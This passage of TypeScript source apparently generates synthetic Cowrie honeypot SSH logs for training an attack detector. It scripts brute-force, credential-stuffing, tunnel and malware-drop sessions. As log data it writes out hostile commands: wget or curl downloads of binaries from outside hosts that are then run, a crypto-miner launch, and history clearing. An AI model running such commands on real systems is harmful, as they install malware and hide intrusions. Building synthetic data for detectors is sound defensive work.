  hassh: "c118de82e19e5384f50f9bfd36c1a5dc",
  kex: "mlkem768x25519-sha256,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,diffie-hellman-group-exchange-sha256,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,3des-cbc",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96",
  comp: "none",
  keys: "rsa-sha2-256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-256,rsa-sha2-512,ssh-rsa,ssh-dss,ssh-ed25519",
});

type SessionKind =
  | "tcp-probe"
  | "banner-probe"
  | "kex-probe"
  | "login-failed"
  | "login-recon"
  | "sftp-upload"
  | "pubkey-attempt"
  | "tunnel-probe"
  | "interactive";

/** A kind of visitor: which client it runs and what its sessions do. */
interface BotProfile {
  readonly sessionsPerVisit: number;
  /** Seconds between the starts of a visit's sessions: a fixed part plus an exponential mean. */
  readonly sessionGap: readonly [number, number];
  readonly clients: readonly (readonly [ClientFingerprint, number])[];
  readonly sessions: readonly (readonly [SessionKind, number])[];
}

// Weights reproduce the reference sensor's session patterns: 46% connect-version-kex-failed-
// closed, 27% a login with one command, 9% bare TCP connects, 15% banner or kex grabs, and a
// tail of uploads, key attempts, tunnels and interactive shells. The Go sprayer revisits
// every ~6.5 s, as the busiest sources there did.
const GO_SPRAYER: BotProfile = {
  sessionsPerVisit: 8,
  sessionGap: [5.8, 0.8],
  clients: [[GO_CURVE25519, 491], [GO_LEGACY_CIPHERS, 97], [GO_GROUP_EXCHANGE, 34], [GO_MLKEM, 34]],
  sessions: [["login-failed", 58], ["login-recon", 35], ["kex-probe", 5], ["tcp-probe", 2]],
};

const SCANNER: BotProfile = {
  sessionsPerVisit: 1.6,
  sessionGap: [0.5, 3],
  clients: [[ZGRAB, 5], [OPENSSH_KEYSCAN, 6], [OPENSSH_10, 10]],
  sessions: [["tcp-probe", 45], ["banner-probe", 33], ["kex-probe", 22]],
};

const SCRIPTED_CLIENT: BotProfile = {
  sessionsPerVisit: 2,
  sessionGap: [1, 4],
  clients: [[PARAMIKO, 2], [LIBSSH2, 4], [LIBSSH, 2], [OPENSSH_8, 1], [OPENSSH_9_UBUNTU, 3]],
  sessions: [
    ["login-failed", 42], ["login-recon", 36], ["sftp-upload", 8], ["pubkey-attempt", 5],
    ["tunnel-probe", 4], ["interactive", 5],
  ],
};

const BOTS: readonly (readonly [BotProfile, number])[] = [[GO_SPRAYER, 41], [SCANNER, 48], [SCRIPTED_CLIENT, 11]];

const BRUTE_FORCE_CLIENTS: readonly (readonly [ClientFingerprint, number])[] = [[LIBSSH, 4], [PARAMIKO, 2], [GO_CURVE25519, 3], [LIBSSH2, 2]];
const HUMAN_CLIENTS: readonly (readonly [ClientFingerprint, number])[] = [[OPENSSH_8, 2], [OPENSSH_9_UBUNTU, 3], [OPENSSH_10, 2]];

/** The honeypot the log pretends to come from. */
interface SensorIdentity {
  /** Cowrie's `sensor` field: the host name. */
  readonly name: string;
  /** `dst_ip` of every connection: the sensor's private address behind the cloud NAT. */
  readonly privateIp: string;
  /** What internet scanners see; some put it in their banner. */
  readonly publicIp: string;
  readonly uuid: string;
}

function inventSensor(random: SeededRandom): SensorIdentity {
  // AWS default-VPC addressing and host naming, as on the reference sensor (ip-172-31-31-222).
  const privateIp = `172.31.${random.integer(0, 63)}.${random.integer(2, 254)}`;
  const publicIp = `${random.pick([3, 18, 34, 44, 52, 54])}.${random.integer(0, 255)}.${random.integer(0, 255)}.${random.integer(1, 254)}`;
  // Cowrie stamps every event with the instance's version-1 UUID, the same on every line.
  const variant = random.pick(["8", "9", "a", "b"]);
  const uuid = `${random.hex(8)}-${random.hex(4)}-1${random.hex(3)}-${variant}${random.hex(3)}-${random.hex(12)}`;
  return { name: `ip-${privateIp.replace(/\./g, "-")}`, privateIp, publicIp, uuid };
}

/**
 * Session ids: 12 hex digits like Cowrie's, but never repeated. A counter goes through a
 * keyed 4-round Feistel permutation of 48 bits, which is a bijection, so ids look random and
 * stay unique without remembering the ones handed out.
 */
class SessionIds {
  private counter = 0;
  private readonly keys: number[];

  constructor(random: SeededRandom) {
    this.keys = [random.nextUint32(), random.nextUint32(), random.nextUint32(), random.nextUint32()];
  }

  next(): string {
    let left = Math.floor(this.counter / 0x1000000) & 0xffffff;
    let right = this.counter & 0xffffff;
    this.counter += 1;
    for (const key of this.keys) {
      const mixed = mix32(right ^ key) & 0xffffff;
      [left, right] = [right, left ^ mixed];
    }
    return left.toString(16).padStart(6, "0") + right.toString(16).padStart(6, "0");
  }
}

/** A 32-bit integer hash with good avalanche (Chris Wellons' lowbias32). */
function mix32(value: number): number {
  let x = value >>> 0;
  x ^= x >>> 16;
  x = Math.imul(x, 0x7feb352d);
  x ^= x >>> 15;
  x = Math.imul(x, 0x846ca68b);
  x ^= x >>> 16;
  return x >>> 0;
}

interface Visitor {
  readonly ip: string;
  readonly bot: BotProfile;
}

/**
 * Source addresses. A keyed hash splits the IPv4 space in two halves: background visitors
 * come from one, attack episodes from the other, so an episode's addresses never show up in
 * background traffic, and nothing in the address itself gives away which half it is in.
 */
class SourceAddresses {
  private readonly recurring: Visitor[] = [];
  /** Addresses already given to an episode: one per episode source, a few per thousand lines. */
  private readonly episodeAddresses = new Set<string>();
  private readonly partitionKey: number;

  constructor(private readonly random: SeededRandom) {
    this.partitionKey = random.nextUint32();
  }

  /** A background visitor: often one that came before, as bots revisit. */
  visitor(): Visitor {
    const r = this.random;
    if (this.recurring.length > 0 && r.chance(0.3)) return r.pick(this.recurring);
    // A compromised host inside the sensor's own network: rare, but it is what a detector's
    // is_internal_ip feature exists for.
    const ip = r.chance(0.001) ? this.draw(0, true) : this.draw(0, false);
    const visitor = { ip, bot: r.pickWeighted(BOTS) };
    if (this.recurring.length < RECURRING_SOURCES) this.recurring.push(visitor);
    else this.recurring[r.integer(0, RECURRING_SOURCES - 1)] = visitor;
    return visitor;
  }

  /** A public address no background visitor and no earlier episode has used. */
  forEpisode(): string {
    for (;;) {
      const ip = this.draw(1, false);
      if (!this.episodeAddresses.has(ip)) {
        this.episodeAddresses.add(ip);
        return ip;
      }
    }
  }

  /** A public address that only appears inside attackers' text (download hosts, bot lists). */
  anyPublic(): string {
    return this.draw(this.random.integer(0, 1), false);
  }

  private draw(half: number, internal: boolean): string {
    const r = this.random;
    for (;;) {
      let a: number;
      let b: number;
      if (internal) {
        [a, b] = r.chance(0.5) ? [10, r.integer(0, 255)] : [192, 168];
      } else if (r.chance(0.5)) {
        [a, b] = r.pick(HOSTING_PREFIXES).split(".").map(Number);
      } else {
        a = r.integer(1, 223);
        b = r.integer(0, 255);
      }
      const c = r.integer(0, 255);
      const d = r.integer(1, 254);
      if (!internal && (isReservedFirstOctet(a) || isReservedPrefix(a, b, c))) continue;
      const address = ((a << 24) | (b << 16) | (c << 8) | d) >>> 0;
      if ((mix32(address ^ this.partitionKey) & 1) !== half) continue;
      return `${a}.${b}.${c}.${d}`;
    }
  }
}

interface ScriptedEvent {
  readonly timeUs: number;
  readonly event: Record<string, unknown>;
}

/** Collects the events that the sessions of one visit or one episode play out. */
class ScriptWriter {
  events: ScriptedEvent[] = [];
  private readonly ttylogs = new Set<string>();

  constructor(
    readonly random: SeededRandom,
    readonly sensor: SensorIdentity,
    readonly sources: SourceAddresses,
    private readonly sessionIds: SessionIds,
  ) {}

  open(srcIp: string, startUs: number): SessionScript {
    return new SessionScript(this, this.sessionIds.next(), srcIp, startUs);
  }

  take(): ScriptedEvent[] {
    const events = this.events;
    this.events = [];
    return events;
  }

  /** Cowrie's `duplicate` flag on log.closed: whether an identical tty log was stored before. */
  seenTtylog(digest: string): boolean {
    if (this.ttylogs.has(digest)) return true;
    if (this.ttylogs.size < REMEMBERED_TTYLOGS) this.ttylogs.add(digest);
    return false;
  }
}

/**
 * One SSH session, event by event, with Cowrie 2.x's field order and messages: the event's own
 * fields, then message, sensor, uuid, timestamp, src_ip, session, protocol (session.connect
 * lists its addresses first and the timestamp last).
 */
class SessionScript {
  private clockUs: number;
  private readonly connectUs: number;
  private ttyStartUs = 0;
  private readonly ttyInput: string[] = [];

  constructor(
    private readonly writer: ScriptWriter,
    readonly id: string,
    readonly srcIp: string,
    startUs: number,
  ) {
    this.clockUs = startUs;
    this.connectUs = startUs;
  }

  get nowUs(): number {
    return this.clockUs;
  }

  wait(seconds: number): this {
    this.clockUs += Math.max(1, Math.round(seconds * MICROS_PER_SECOND));
    return this;
  }

  connect(): this {
    const { privateIp } = this.writer.sensor;
    const srcPort = this.writer.random.integer(1024, 65535);
    return this.emit(
      "cowrie.session.connect",
      { src_ip: this.srcIp, src_port: srcPort, dst_ip: privateIp, dst_port: 2222, session: this.id, protocol: "ssh" },
      `New connection: ${this.srcIp}:${srcPort} (${privateIp}:2222) [session: ${this.id}]`,
    );
  }

  clientVersion(version: string): this {
    return this.emit("cowrie.client.version", { version }, `Remote SSH version: ${version}`);
  }

  clientKex(client: ClientFingerprint): this {
    return this.emit("cowrie.client.kex", client.kexFields, `SSH client hassh fingerprint: ${client.hassh}`);
  }

  /** Banner exchange and key exchange, milliseconds apart as a client library does them. */
  handshake(client: ClientFingerprint): this {
    const r = this.writer.random;
    return this.wait(r.uniform(0.0005, 0.003)).clientVersion(client.version).wait(r.uniform(0.05, 0.35)).clientKex(client);
  }

  loginFailed(username: string, password: string): this {
    return this.emit("cowrie.login.failed", { username, password }, `login attempt [${username}/${password}] failed`);
  }

  loginSucceeded(username: string, password: string): this {
    return this.emit("cowrie.login.success", { username, password }, `login attempt [${username}/${password}] succeeded`);
  }

  publicKeyRejected(username: string): this {
    const r = this.writer.random;
    const fingerprint = r.hex(32).replace(/(..)(?!$)/g, "$1:");
    const key = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${randomBase64(r, 340)}`;
    const type = "ssh-rsa";
    this.emit(
      "cowrie.client.fingerprint",
      { username, fingerprint, key, type },
      `public key attempt for user ${username} of type ${type} with fingerprint ${fingerprint}`,
    );
    return this.wait(r.uniform(0.0002, 0.002)).emit(
      "cowrie.login.failed",
      { username, fingerprint, key, type },
      `public key login attempt for [${username}] failed`,
    );
  }

  terminal(): this {
    const r = this.writer.random;
    const [width, height] = r.pick([[80, 24], [190, 53], [120, 40], [237, 63]]);
    this.emit("cowrie.client.size", { width, height }, `Terminal Size: ${width} ${height}`);
    const value = r.pick(["en_US.UTF-8", "es_ES.UTF-8", "C.UTF-8", "zh_CN.UTF-8", "ru_RU.UTF-8"]);
    return this.wait(r.uniform(0.0005, 0.002)).emit("cowrie.client.var", { name: "LANG", value }, `request_env: LANG=${value}`);
  }

  /** Start of the shell or exec channel, and of its tty log. */
  sessionParams(): this {
    this.ttyStartUs = this.clockUs;
    // Cowrie 2.x really writes an empty list as this event's message.
    return this.emit("cowrie.session.params", { arch: "linux-x64-lsb" }, []);
  }

  command(input: string): this {
    this.ttyInput.push(input);
    this.emit("cowrie.command.input", { input }, `CMD: ${input}`);
    const program = input.trimStart().split(/[\s;|&]/, 1)[0];
    if (!UNKNOWN_TO_COWRIE.has(program)) return this;
    const failed = input.includes(" ") ? input : `${input} `;
    return this.wait(0.0007).emit("cowrie.command.failed", { input: failed }, `Command not found: ${failed}`);
  }

  fileDownload(url: string, shasum: string): this {
    const outfile = `var/lib/cowrie/downloads/${shasum}`;
    return this.emit(
      "cowrie.session.file_download",
      { url, outfile, shasum },
      `Downloaded URL (${url}) with SHA-256 ${shasum} to ${outfile}`,
    );
  }

  fileUpload(filename: string, shasum: string): this {
    const outfile = `var/lib/cowrie/downloads/${shasum}`;
    return this.emit("cowrie.session.file_upload", { filename, outfile, shasum }, `SFTP Uploaded file "${filename}" to ${outfile}`);
  }

  /**
   * A port-forwarding request. Cowrie's message names the client's claimed origin
   * (127.0.0.1) while the src_ip field carries the session's address.
   */
  directTcpipRequest(dstIp: string, dstPort: number): this {
    const srcPort = this.writer.random.integer(30000, 65000);
    return this.emit(
      "cowrie.direct-tcpip.request",
      { dst_ip: dstIp, dst_port: dstPort, src_ip: this.srcIp, src_port: srcPort },
      `direct-tcp connection request to ${dstIp}:${dstPort} from 127.0.0.1:${srcPort}`,
    );
  }

  directTcpipJa4(dstIp: string, dstPort: number): this {
    const r = this.writer.random;
    const ja4 = `t13d${r.integer(10, 19)}${r.integer(10, 19)}h2_${r.hex(12)}_${r.hex(12)}`;
    return this.emit(
      "cowrie.direct-tcpip.ja4",
      { dst_ip: dstIp, dst_port: dstPort, ja4 },
      `JA4 fingerprint for forwarded TLS to ${dstIp}:${dstPort}: ${ja4}`,
    );
  }

  ttyClosed(): this {
    const text = this.ttyInput.join("\n");
    const shasum = createHash("sha256").update(text).digest("hex");
    const ttylog = `var/lib/cowrie/tty/${shasum}`;
    // The same commands leave the same tty log, as Cowrie's duplicate detection expects.
    const size = Buffer.byteLength(text) * 2 + 23;
    const duration = formatSeconds(this.clockUs - this.ttyStartUs);
    return this.emit(
      "cowrie.log.closed",
      { ttylog, size, shasum, duplicate: this.writer.seenTtylog(shasum), duration },
      `Closing TTY Log: ${ttylog} after ${duration} seconds`,
    );
  }

  closed(): this {
    // Cowrie 2.x writes the SSH session's duration as a string with one decimal.
    const duration = formatSeconds(this.clockUs - this.connectUs);
    return this.emit("cowrie.session.closed", { duration }, `Connection lost after ${duration} seconds`);
  }

  private emit(eventid: string, fields: Readonly<Record<string, unknown>>, message: unknown): this {
    const { name, uuid } = this.writer.sensor;
    this.writer.events.push({
      timeUs: this.clockUs,
      event: {
        eventid,
        ...fields,
        message,
        sensor: name,
        uuid,
        timestamp: epochMsToCowrieTimestamp(this.clockUs / 1000),
        src_ip: this.srcIp,
        session: this.id,
        protocol: "ssh",
      },
    });
    return this;
  }
}

function formatSeconds(micros: number): string {
  return (micros / MICROS_PER_SECOND).toFixed(1);
}

function seconds(value: number): number {
  return Math.round(value * MICROS_PER_SECOND);
}

const BASE64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

function randomBase64(random: SeededRandom, length: number): string {
  let out = "";
  for (let i = 0; i < length; i++) out += BASE64_ALPHABET[random.nextUint32() & 63];
  return out;
}

// Background traffic.

function scriptVisit(writer: ScriptWriter, visitor: Visitor, startUs: number): void {
  const r = writer.random;
  const { bot } = visitor;
  const sessions = Math.min(MAX_SESSIONS_PER_VISIT, 1 + Math.floor(r.exponential(bot.sessionsPerVisit - 1)));
  const client = r.pickWeighted(bot.clients);
  let startOfSession = startUs;
  for (let i = 0; i < sessions; i++) {
    scriptSession(writer, writer.open(visitor.ip, startOfSession), r.pickWeighted(bot.sessions), bot, client);
    startOfSession += seconds(bot.sessionGap[0] + r.exponential(bot.sessionGap[1]));
  }
}

function scriptSession(
  writer: ScriptWriter,
  s: SessionScript,
  kind: SessionKind,
  bot: BotProfile,
  client: ClientFingerprint,
): void {
  const r = writer.random;
  s.connect();
  switch (kind) {
    case "tcp-probe":
      // Port scanners hang up at once, or when their own 10 s timeout expires.
      s.wait(r.chance(0.15) ? r.uniform(10, 10.4) : r.uniform(0, 0.3)).closed();
      return;
    case "banner-probe":
      s.wait(r.uniform(0.0005, 0.01)).clientVersion(scannerBanner(writer)).wait(hangUpDelay(r)).closed();
      return;
    case "kex-probe":
      s.handshake(client);
      if (r.chance(0.05)) s.wait(r.uniform(0.05, 0.2)).clientKex(client);
      s.wait(hangUpDelay(r)).closed();
      return;
    case "login-failed": {
      s.handshake(client);
      const attempts = bot === GO_SPRAYER ? 1 : r.pickWeighted([[1, 6], [2, 2], [3, 1]] as const);
      for (let i = 0; i < attempts; i++) s.wait(r.uniform(0.2, 2.5)).loginFailed(...backgroundCredentials(r));
      s.wait(hangUpDelay(r)).closed();
      return;
    }
    case "login-recon": {
      s.handshake(client);
      if (r.chance(0.08)) s.wait(r.uniform(0.2, 2)).loginFailed(...backgroundCredentials(r));
      s.wait(r.uniform(0.2, 2.5)).loginSucceeded(...acceptedCredentials(r));
      s.wait(r.uniform(0.1, 0.35)).sessionParams();
      const commands = bot === GO_SPRAYER ? r.pickWeighted(BOT_COMMAND_SCRIPTS) : typicalCommands(r, 1, 5);
      for (const command of commands) s.wait(r.uniform(0.05, 0.6)).command(command);
      if (r.chance(0.01)) s.wait(r.uniform(0.1, 1)).command(r.pick(HOSTILE_COMMANDS));
      s.wait(r.uniform(0.05, 0.4)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
      return;
    }
    case "sftp-upload": {
      s.handshake(client).wait(r.uniform(0.3, 2)).loginSucceeded(...acceptedCredentials(r));
      s.wait(r.uniform(0.5, 3)).fileUpload("sshd", r.pick(UPLOADED_SSHD_DIGESTS));
      if (r.chance(0.5)) {
        // The uploaded binary is started with a list of further targets, as on the reference sensor.
        const dir = `./.${r.integer(1e9, 9e9)}${r.integer(1e8, 9e8)}`;
        const targets = Array.from({ length: r.integer(20, 50) }, () => writer.sources.anyPublic()).join(" ");
        s.wait(r.uniform(0.1, 0.4)).sessionParams();
        s.wait(r.uniform(0.05, 0.3)).command(`chmod +x ${dir}/sshd;nohup ${dir}/sshd ${targets} &`);
        s.wait(r.uniform(0.05, 0.3)).ttyClosed();
      }
      s.wait(r.uniform(0.01, 0.3)).closed();
      return;
    }
    case "pubkey-attempt": {
      s.handshake(client);
      const attempts = r.integer(1, 2);
      for (let i = 0; i < attempts; i++) s.wait(r.uniform(0.05, 0.2)).publicKeyRejected(r.chance(0.8) ? "root" : r.pickWeighted(USERNAMES));
      s.wait(hangUpDelay(r)).closed();
      return;
    }
    case "tunnel-probe": {
      s.handshake(client).wait(r.uniform(0.2, 2)).loginSucceeded(...acceptedCredentials(r));
      const [host, port] = r.pick(TUNNEL_PROBE_TARGETS);
      s.wait(r.uniform(0.05, 0.3)).directTcpipRequest(host, port);
      if (port === 443 && r.chance(0.6)) s.wait(r.uniform(0.1, 0.4)).directTcpipJa4(host, port);
      s.wait(r.uniform(0.1, 2)).closed();
      return;
    }
    case "interactive": {
      // A person typing: seconds between commands, a terminal size and locale first.
      s.handshake(client).wait(r.uniform(2, 8)).loginSucceeded(...acceptedCredentials(r));
      s.wait(r.uniform(0.2, 0.5)).terminal().wait(r.uniform(0.001, 0.003)).sessionParams();
      for (const command of typicalCommands(r, 3, 8)) s.wait(r.uniform(2, 15)).command(command);
      s.wait(r.uniform(1, 5)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
      return;
    }
  }
}

/** Most clients hang up at once; some idle until Cowrie's 120 s auth timeout or longer. */
function hangUpDelay(r: SeededRandom): number {
  if (r.chance(0.03)) return r.uniform(120, 121);
  if (r.chance(0.015)) return r.uniform(300, 304);
  return r.uniform(0.05, 0.5);
}

function scannerBanner(writer: ScriptWriter): string {
  const r = writer.random;
  // masscan-style grabbers announce the address they scanned.
  if (r.chance(0.06)) return `MGLNDD_${writer.sensor.publicIp}_22`;
  const banner = r.pickWeighted(SCANNER_BANNERS);
  if (!banner.startsWith("\u0016")) return banner;
  // A TLS ClientHello sent to the SSH port: Cowrie logs its bytes, escaped or raw.
  let hello = banner;
  for (let i = 0; i < r.integer(8, 40); i++) {
    hello += r.chance(0.5) ? `\\x${r.hex(2)}` : String.fromCharCode(r.integer(0, 126));
  }
  return hello;
}

function backgroundCredentials(r: SeededRandom): [string, string] {
  if (r.chance(0.01)) return [r.chance(0.5) ? r.pick(HOSTILE_TEXT) : "root", r.pick(HOSTILE_TEXT)];
  const username = r.pickWeighted(USERNAMES);
  // Sprayers often try the user name as the password (user6/user6 on the reference sensor).
  if (username !== "root" && r.chance(0.25)) return [username, username];
  if (r.chance(0.05)) return [username, `${username}${r.pick(PASSWORD_SUFFIXES)}`];
  return [username, r.pickWeighted(PASSWORDS)];
}

/**
 * Credentials a sensor lets in: Cowrie's default userdb takes root with any password but
 * "root" and "123456"; operators commonly add service accounts such as tomcat or oracle.
 */
function acceptedCredentials(r: SeededRandom): [string, string] {
  const username = r.chance(0.85) ? "root" : r.pick(["admin", "ubuntu", "tomcat", "oracle", "phil"]);
  let password = r.pickWeighted(PASSWORDS);
  if (password === "root" || password === "123456") password = r.pick(["hola", "admin123", "P@ssw0rd"]);
  return [username, password];
}

function typicalCommands(r: SeededRandom, min: number, max: number): string[] {
  return r.shuffled(TYPICAL_COMMANDS).slice(0, r.integer(min, max));
}

// Attack episodes. Each scripts its sessions from `startUs` within `budget` events and
// returns the source addresses it used.

interface EpisodeSetting {
  readonly startUs: number;
  /** Upper bound on the episode's own events. */
  readonly budget: number;
  /** Background sessions per second, which a traffic spike must exceed many-fold. */
  readonly backgroundSessionsPerSecond: number;
}

type EpisodeScript = (writer: ScriptWriter, setting: EpisodeSetting) => string[];

/** One address, a few parallel sessions, hundreds of failed logins in 30-60 seconds. */
function scriptBruteForce(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted(BRUTE_FORCE_CLIENTS);
  const sessions = r.integer(3, 6);
  const attempts = Math.max(sessions * 10, Math.min(r.integer(200, 450), budget - 5 * sessions));
  const spanSeconds = r.uniform(30, 60);
  const fixedUser = r.chance(0.6) ? "root" : undefined;
  let attempt = 0;
  for (let k = 0; k < sessions; k++) {
    const share = Math.floor(attempts / sessions) + (k < attempts % sessions ? 1 : 0);
    const s = writer.open(ip, startUs + seconds(r.uniform(0, 2))).connect().handshake(client);
    const step = spanSeconds / share;
    for (let i = 0; i < share; i++, attempt++) s.wait(step * r.uniform(0.7, 1.3)).loginFailed(...wordlistCredential(attempt, fixedUser));
    s.wait(r.uniform(0.05, 0.3)).closed();
  }
  return [ip];
}

const WORDLIST_USERS = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "git", "ftpuser", "pi"];

/** The i-th guess of a wordlist attack: every user against each password in turn. */
function wordlistCredential(i: number, fixedUser: string | undefined): [string, string] {
  const users = fixedUser ? 1 : WORDLIST_USERS.length;
  const guess = Math.floor(i / users);
  const word = PASSWORDS[guess % PASSWORDS.length][0];
  const suffix = PASSWORD_SUFFIXES[Math.floor(guess / PASSWORDS.length) % PASSWORD_SUFFIXES.length];
  return [fixedUser ?? WORDLIST_USERS[i % users], word + suffix];
}

/** Many addresses of one botnet, each a few distinct leaked credentials, in a minute or two. */
function scriptCredentialStuffing(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
  const r = writer.random;
  const client = r.pickWeighted([[GO_CURVE25519, 3], [PARAMIKO, 1]] as const);
  const windowSeconds = r.uniform(45, 120);
  const sourceCount = Math.max(3, Math.min(r.integer(25, 60), Math.floor(budget / 12)));
  const tried = new Set<string>();
  const ips: string[] = [];
  for (let i = 0; i < sourceCount; i++) {
    const ip = writer.sources.forEpisode();
    ips.push(ip);
    let startOfSession = startUs + seconds(r.uniform(0, windowSeconds));
    const sessions = r.chance(0.2) ? 2 : 1;
    for (let k = 0; k < sessions; k++) {
      const s = writer.open(ip, startOfSession).connect().handshake(client);
      const attempts = r.integer(2, 4);
      for (let a = 0; a < attempts; a++) s.wait(r.uniform(0.3, 1.5)).loginFailed(...leakedCredential(r, tried));
      s.wait(r.uniform(0.05, 0.3)).closed();
      startOfSession = s.nowUs + seconds(r.uniform(0.5, 3));
    }
  }
  return ips;
}

/** A plausible leaked user/password pair, never one already in `tried`. */
function leakedCredential(r: SeededRandom, tried: Set<string>): [string, string] {
  for (;;) {
    const first = r.pick(FIRST_NAMES);
    const last = r.pick(LAST_NAMES);
    const username = r.pick([
      `${first}.${last}`,
      `${first}${last[0]}`,
      `${first}.${last}@${r.pick(MAIL_DOMAINS)}`,
      `${first}${r.integer(70, 99)}`,
    ]);
    const password = r.chance(0.7)
      ? `${r.pick(PASSWORD_WORDS)}${r.pick(PASSWORD_SUFFIXES)}`
      : `${first[0].toUpperCase()}${first.slice(1)}${r.integer(1970, 2010)}`;
    const key = `${username}\u0000${password}`;
    if (!tried.has(key)) {
      tried.add(key);
      return [username, password];
    }
  }
}

/** One address logs in and asks the honeypot to forward connections to many ports. */
function scriptPortScanTunnel(writer: ScriptWriter, { startUs, budget }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted([[GO_CURVE25519, 2], [OPENSSH_8, 1], [PARAMIKO, 1]] as const);
  const sessions = r.integer(1, 3);
  const portCount = Math.max(10, Math.min(r.integer(60, 220), budget - 7 * sessions));
  const ports = distinctPorts(r, portCount);
  const target = r.pick(["127.0.0.1", `10.0.${r.integer(0, 3)}.${r.integer(1, 254)}`, `192.168.1.${r.integer(1, 254)}`, writer.sources.anyPublic()]);
  let startOfSession = startUs;
  let next = 0;
  for (let k = 0; k < sessions; k++) {
    const s = writer.open(ip, startOfSession).connect().handshake(client);
    s.wait(r.uniform(0.3, 1.5)).loginSucceeded(...acceptedCredentials(r));
    const share = Math.floor(portCount / sessions) + (k < portCount % sessions ? 1 : 0);
    for (let i = 0; i < share; i++) s.wait(r.uniform(0.02, 0.4)).directTcpipRequest(target, ports[next++]);
    s.wait(r.uniform(0.1, 1)).closed();
    startOfSession = s.nowUs + seconds(r.uniform(1, 5));
  }
  return [ip];
}

/** Well-known service ports first, then random ones, all different. */
function distinctPorts(r: SeededRandom, count: number): number[] {
  const ports = new Set(r.shuffled(SERVICE_PORTS).slice(0, Math.min(count, SERVICE_PORTS.length)));
  while (ports.size < count) ports.add(r.integer(1, 65535));
  return [...ports];
}

/** A wave of short sessions from many addresses, many times the background session rate. */
function scriptTrafficSpike(writer: ScriptWriter, { startUs, budget, backgroundSessionsPerSecond }: EpisodeSetting): string[] {
  const r = writer.random;
  // Ten to thirty times the background, and never slower than a scan wave's 1-4 sessions a second.
  const sessionsPerSecond = Math.max(r.uniform(10, 30) * backgroundSessionsPerSecond, r.uniform(1, 4));
  const sessionCount = Math.max(10, Math.min(r.integer(150, 400), Math.floor(budget / 6)));
  const ips: string[] = [];
  let arrivalUs = startUs;
  let remaining = sessionCount;
  while (remaining > 0) {
    const ip = writer.sources.forEpisode();
    ips.push(ip);
    const bot = r.chance(0.6) ? SCANNER : GO_SPRAYER;
    const client = r.pickWeighted(bot.clients);
    const sessions = Math.min(remaining, r.integer(1, 3));
    for (let k = 0; k < sessions; k++, remaining--) {
      const kind = bot === GO_SPRAYER ? "login-failed" : r.pickWeighted(bot.sessions);
      scriptSession(writer, writer.open(ip, arrivalUs), kind, bot, client);
      arrivalUs += seconds(r.exponential(1 / sessionsPerSecond));
    }
  }
  return ips;
}

/** Log in, fetch a binary with wget or curl, make it executable and run it. */
function scriptMalwareDrop(writer: ScriptWriter, { startUs }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const client = r.pickWeighted([[GO_CURVE25519, 2], [LIBSSH2, 1], [OPENSSH_8, 1]] as const);
  const s = writer.open(ip, startUs).connect().handshake(client);
  s.wait(r.uniform(0.3, 2)).loginSucceeded(...acceptedCredentials(r));
  s.wait(r.uniform(0.1, 0.35)).sessionParams();
  if (r.chance(0.6)) s.wait(r.uniform(0.1, 0.6)).command(r.pick(["uname -a", "uname -m", "cat /proc/cpuinfo | grep name | wc -l"]));
  s.wait(r.uniform(0.1, 0.6)).command(r.pick(["cd /tmp", "cd /tmp || cd /var/run || cd /dev/shm", "cd /dev/shm; mkdir .x; cd .x"]));
  const host = r.chance(0.7) ? writer.sources.anyPublic() : r.pick(MALWARE_HOSTS);
  const port = r.chance(0.3) ? `:${r.pick([8080, 81, 666, 3389])}` : "";
  const payloads = r.shuffled(MALWARE_NAMES).slice(0, r.chance(0.35) ? 2 : 1);
  for (const name of payloads) {
    const url = `http://${host}${port}/${r.pick(["bins", "x", ".s", "dl"])}/${name}`;
    const fetch = r.pick([`wget ${url}`, `curl -O ${url}`, `wget -q ${url} -O ${name} || curl -s -o ${name} ${url}`]);
    s.wait(r.uniform(0.3, 2)).command(fetch);
    s.wait(r.uniform(0.5, 4)).fileDownload(url, r.hex(64));
    s.wait(r.uniform(0.1, 1)).command(`chmod +x ${name}`);
    s.wait(r.uniform(0.1, 0.8)).command(r.pick([`./${name}`, `nohup ./${name} > /dev/null 2>&1 &`, `sh ${name}`, `./${name} -o pool.supportxmr.com:443 -B`]));
  }
  if (r.chance(0.5)) s.wait(r.uniform(0.2, 1)).command(`rm -f ${payloads.join(" ")}; history -c`);
  s.wait(r.uniform(0.05, 0.4)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
  return [ip];
}

/** A person at a shell running tools that bots never run, and pasting kilobytes of oddities. */
function scriptUnusualBehaviour(writer: ScriptWriter, { startUs }: EpisodeSetting): string[] {
  const r = writer.random;
  const ip = writer.sources.forEpisode();
  const s = writer.open(ip, startUs).connect().handshake(r.pickWeighted(HUMAN_CLIENTS));
  s.wait(r.uniform(3, 10)).loginSucceeded(...acceptedCredentials(r));
  s.wait(r.uniform(0.2, 0.5)).terminal().wait(r.uniform(0.001, 0.003)).sessionParams();
